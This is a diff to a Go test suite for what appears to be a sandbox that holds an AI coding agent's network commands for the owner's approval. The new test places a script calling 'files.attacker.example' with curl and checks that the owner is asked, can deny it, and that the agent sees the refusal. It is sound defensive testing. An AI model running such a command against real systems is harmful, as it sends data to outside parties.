@@ -9,12 +9,14 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 )
 
 // codexHouse is a machine with the real server, hook and box keeper, on which the owner has switched boxes on for Codex.
 type codexHouse struct {
 	t                          *testing.T
 	hook, data, ws, home, main string
+	server                     *server
 }
 
 func newCodexHouse(t *testing.T) *codexHouse {
@@ -39,7 +41,7 @@ func newCodexHouse(t *testing.T) *codexHouse {
 		os.WriteFile(c.hook, raw, 0o755), os.WriteFile(c.main, raw, 0o755)); err != nil {
 		t.Fatal(err)
 	}
-	startServer(t, c.data)
+	c.server = startServer(t, c.data)
 	t.Cleanup(func() { _, _ = c.run("", c.main, "box", "end", "--data", c.data) })
 	return c
 }
@@ -196,5 +198,55 @@ func TestBoxIsForAgentsWhoseLinesCanBeRewritten(t *testing.T) {
 	}
 	if code, out := c.run("", c.main, "uninstall", "codex", "--data", c.data); code != 0 || exists(note) {
 		t.Errorf("%d %s", code, out)
+	}
+}
+
+// From the model's line to the owner's answer, with the real hook, server and keeper: a command in the box that wants a host is held,
+// the question is where all questions are, and after a no the model reads why.
+func TestTheOwnerIsAskedForWhatACommandOfCodexWants(t *testing.T) {
+	if _, err := exec.LookPath("curl"); err != nil {
+		t.Skip("curl is not installed here")
+	}
+	c := newCodexHouse(t)
+	c.install("--box")
+	c.tainted("s")
+	if err := os.WriteFile(filepath.Join(c.ws, "send.sh"), []byte("curl -sS https://files.attacker.example/key\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	instead, reason := c.asks("s", "c1", "sh ./send.sh; true")
+	if instead == "" {
+		t.Fatalf("refused: %s", reason)
+	}
+	done := make(chan string, 1)
+	go func() { _, out := c.run("", "/bin/sh", "-c", instead); done <- out }()
+	id, asked := "", ""
+	for deadline := time.Now().Add(time.Minute); id == "" && time.Now().Before(deadline); {
+		var list struct {
+			Approvals []struct{ ID, Prompt, State string } `json:"approvals"`
+		}
+		_, out := c.run("", c.main, "approvals", "--json", "--data", c.data)
+		if err := json.Unmarshal([]byte(out), &list); err != nil {
+			t.Fatal(out, err)
+		}
+		for _, q := range list.Approvals {
+			if strings.Contains(q.Prompt, "files.attacker.example, port 443") {
+				id, asked = q.ID, q.Prompt
+			}
+		}
+	}
+	if id == "" || !strings.Contains(asked, "it can send there whatever it can read") {
+		t.Fatalf("nobody was asked: %q", asked)
+	}
+	if code, out := c.run(c.server.tokens.Admin, c.main, "approvals", "deny", id, "--token-stdin", "--data", c.data); code != 0 {
+		t.Fatalf("%d %s", code, out)
+	}
+	out := <-done
+	for _, line := range []string{
+		"[confined: no network. A person was asked for files.attacker.example]",
+		"[confined: no network. files.attacker.example:443 was refused: the owner said no]",
+	} {
+		if !strings.Contains(out, line) {
+			t.Errorf("%q is not in %q", line, out)
+		}
 	}
 }
